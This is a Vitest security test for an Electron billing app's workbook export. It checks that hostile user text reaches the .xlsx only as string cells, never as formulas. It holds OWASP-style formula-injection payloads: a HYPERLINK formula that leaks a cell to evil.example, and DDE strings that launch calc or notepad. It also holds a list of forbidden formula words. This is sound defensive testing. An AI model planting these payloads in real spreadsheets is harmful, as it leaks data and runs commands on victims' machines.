// Security review, workbook side (issue #5.5; docs/workbook.md): a text cell beginning with `=`, `+`, `-` or
// `@` never becomes a formula, end to end. Hostile texts enter through every door a user controls
// — item names, item ids, instance ids, the source file's name, the owner id, annotations, the
// actor name — go through import, rating, reconciliation, review and export via the handlers,
// and are read back from the .xlsx both with exceljs and as raw sheet XML.
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openCore, type Core } from '../../electron/core';
import { cliContext } from '../../electron/core/api/context';
import { dispatch } from '../../electron/core/api/dispatch';
import { ROOT, tempDir } from './helpers';

const PERIOD = '2021-03';
/** Classic formula-injection payloads (OWASP "CSV injection"), one per leading character and more. */
const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  plus: "+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(A1)',
  dde: "=cmd|' /C notepad'!A1",
  tabEq: '\t=1+1',
  crEq: '\r=1+1',
  fullwidth: '＝1+1',
};
const OWNER = '+orga_hostile';
const ACTOR = "=cmd|' /C calc'!A0";
const FILE_NAME = '=HYPERLINK("x").csv';

let dir: string;
let out: string;
const xml: Record<string, string> = {};
let wb: ExcelJS.Workbook;

const ctx = cliContext(() => {});
async function call<T = unknown>(core: Core, method: string, payload: unknown): Promise<T> {
  const r = await dispatch(core.handlers, method, payload, ctx);
  if (!r.ok) throw new Error(`${method}: ${r.error.code}: ${r.error.message}`);
  return r.value as T;
}

const csvCell = (s: string) => (/[",\r\n\t]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

beforeAll(async () => {
  dir = tempDir('security');
  const header =
    'owner_id,item_type,item_id,item_name,instance_id,price_id,flavor_name,zone_id,consumption_start,consumption_end,quantity,unit,plan_id,description,unit_price,currency';
  const rows: string[] = [];
  const names = Object.values(HOSTILE);
  names.forEach((name, i) => {
    const day = String(2 + i).padStart(2, '0');
    // item_name hostile; item_id and instance_id hostile too (they reach Lines and Details).
    rows.push(
      [
        OWNER,
        'uptime',
        i === 0 ? '@app-id' : `app_${i}`,
        name,
        i === 0 ? '-instance' : `=inst${i}`,
        'apps.XS',
        'XS',
        'par',
        `2021-03-${day}T10:00:00+01:00`,
        `2021-03-${day}T12:30:00+01:00`,
        '',
        '',
        '',
        '',
        '',
        '',
      ]
        .map(csvCell)
        .join(','),
    );
    rows.push(
      [
        OWNER,
        'build',
        i === 0 ? '@app-id' : `app_${i}`,
        name,
        `+build${i}`,
        'apps.XL',
        'XL',
        'par',
        `2021-03-${day}T09:50:00+01:00`,
        `2021-03-${day}T09:59:00+01:00`,
        '',
        '',
        '',
        '',
        '',
        '',
      ]
        .map(csvCell)
        .join(','),
    );
  });
  rows.push(
    [
      OWNER,
      'classic',
      '=task-1',
      'support',
      '',
      '',
      '',
      'par',
      '2021-03-20T10:00:00+01:00',
      '2021-03-20T11:00:00+01:00',
      '1',
      'hour',
      '',
      HOSTILE.at,
      '90.00',
      'EUR',
    ]
      .map(csvCell)
      .join(','),
  );
  const csv = path.join(dir, FILE_NAME);
  fs.writeFileSync(csv, `${header}\n${rows.join('\n')}\n`);
  out = path.join(dir, 'export.xlsx');

  const core = openCore(path.join(dir, 'ws.sqlite'));
  try {
    await call(core, 'settings.update', { actor: ACTOR });
    const imp = await call<{ results: { ok: boolean; error?: string }[] }>(core, 'import.commit', {
      files: [path.join(ROOT, 'resources/sample/catalog-2021.json'), csv],
    });
    expect(imp.results.map((r) => r.error ?? 'ok')).toEqual(['ok', 'ok']);
    await call(core, 'rate.run', { period: PERIOD });
    const page = await call<{ rows: { key: string }[] }>(core, 'lines.list', { period: PERIOD, ownerId: OWNER, limit: 50 });
    for (const [i, text] of names.entries())
      await call(core, 'lines.annotate', { period: PERIOD, ownerId: OWNER, lineKey: page.rows[i % page.rows.length]!.key, text });
    await call(core, 'lines.setReview', { period: PERIOD, ownerId: OWNER, lineKeys: [page.rows[0]!.key], state: 'disputed', reason: names[0]! });
    await call(core, 'export.workbook', { period: PERIOD, ownerId: OWNER, out });
  } finally {
    core.close();
  }
  const zip = await JSZip.loadAsync(fs.readFileSync(out));
  for (const name of Object.keys(zip.files).filter((n) => /^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(n)))
    xml[name] = await zip.file(name)!.async('string');
  wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(out);
}, 60_000);

afterAll(() => {
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

const decodeXml = (s: string) =>
  s.replace(/&(lt|gt|quot|apos|amp|#x([0-9a-fA-F]+)|#(\d+));/g, (_m, name: string, hex?: string, dec?: string) =>
    hex
      ? String.fromCodePoint(parseInt(hex, 16))
      : dec
        ? String.fromCodePoint(Number(dec))
        : ({ lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' } as Record<string, string>)[name]!,
  );

/** Every formula (<f>) in every sheet, decoded. */
function formulas(): { sheet: string; cell: string; formula: string }[] {
  const found: { sheet: string; cell: string; formula: string }[] = [];
  for (const [sheet, text] of Object.entries(xml)) {
    for (const m of text.matchAll(/<c r="([A-Z]+\d+)"[^>]*>(?:(?!<\/c>).)*?<f>((?:(?!<\/f>).)*)<\/f>/gs))
      found.push({ sheet, cell: m[1]!, formula: decodeXml(m[2]!) });
  }
  return found;
}

describe('workbook text cells stay text (formula injection)', () => {
  it('every hostile text is present in the workbook as a string cell, never a formula', () => {
    // Cells are trimmed on import, so '\t=1+1' arrives as '=1+1': still a text beginning with '='.
    const hostileTexts = [...Object.values(HOSTILE), OWNER, ACTOR, FILE_NAME, '@app-id', '-instance', '=task-1'].map((h) => h.trim());
    const seen = new Map<string, { sheet: string; address: string; type: ExcelJS.ValueType }[]>();
    wb.eachSheet((ws) => {
      ws.eachRow((row) => {
        row.eachCell((cell) => {
          const v = cell.value;
          if (cell.type === ExcelJS.ValueType.Formula) {
            const f = (v as ExcelJS.CellFormulaValue).formula;
            for (const h of hostileTexts) expect(f, `${ws.name}!${cell.address}`).not.toContain(h.replace(/^[=+\-@\t\r]/, ''));
          }
          if (typeof v === 'string') {
            for (const h of hostileTexts) if (v.includes(h)) seen.set(h, [...(seen.get(h) ?? []), { sheet: ws.name, address: cell.address, type: cell.type }]);
          }
        });
      });
    });
    for (const h of hostileTexts) {
      const where = seen.get(h) ?? [];
      expect(where.length, `${JSON.stringify(h)} should appear in the workbook`).toBeGreaterThan(0);
      for (const w of where) expect(w.type, `${w.sheet}!${w.address}`).toBe(ExcelJS.ValueType.String);
    }
    // Where each kind of door leads: Lines (item name, item id), Details (instance id), Audit (actor),
    // Summary (owner, source file), Lines annotations.
    const sheetsOf = (h: string) => new Set((seen.get(h) ?? []).map((w) => w.sheet));
    expect(sheetsOf(HOSTILE.hyperlink).has('Lines')).toBe(true);
    expect(sheetsOf('-instance').has('Details')).toBe(true);
    expect(sheetsOf(ACTOR).has('Audit')).toBe(true);
    expect(sheetsOf(OWNER).has('Summary')).toBe(true);
  });

  it('the sheet XML has no <f> element built from user text; the only formulas are the totals', () => {
    const all = formulas();
    expect(all.length).toBeGreaterThan(0); // the writer's own totals
    for (const { sheet, cell, formula } of all) {
      // The writer's formulas: ROUND/SUM over cell references, nothing else.
      expect(formula, `${sheet} ${cell}`).toMatch(/^ROUND\(/);
      const rest = formula
        .replace(/\b(ROUND|SUM)\(/g, '(')
        .replace(/(Lines!)?\$?[A-Z]{1,3}\$?\d+/g, '')
        .replace(/\d+(\.\d+)?/g, '');
      expect(rest, `${sheet} ${cell}: ${formula}`).toMatch(/^[(),:+\-*/ ]*$/);
      for (const word of ['HYPERLINK', 'cmd', 'calc', 'notepad', 'A0']) expect(formula).not.toContain(word);
    }
    // Each hostile item name sits in a cell without <f>, as an inline or shared string.
    const lines = Object.entries(xml).find(([, t]) => t.includes('HYPERLINK'))?.[1] ?? '';
    expect(lines).not.toBe('');
    const cells = [...lines.matchAll(/<c r="([A-Z]+\d+)"([^>]*)>((?:(?!<\/c>).)*)<\/c>/gs)];
    const withHyperlink = cells.filter((c) => decodeXml(c[3]!).includes('HYPERLINK'));
    expect(withHyperlink.length).toBeGreaterThan(0);
    for (const c of withHyperlink) {
      expect(c[3]).not.toContain('<f>');
      expect(c[2]).toMatch(/t="(inlineStr|s|str)"/);
    }
  });

  it('item names are read back exactly (no escaping, prefixing or truncation of the text)', () => {
    const ws = wb.getWorksheet('Lines')!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const col = header.indexOf('Item name') + 1;
    const names = new Set<string>();
    ws.eachRow((row, n) => {
      if (n > 1) names.add(String(row.getCell(col).value));
    });
    for (const h of Object.values(HOSTILE)) expect(names.has(h.trim()), JSON.stringify(h)).toBe(true);
  });
});
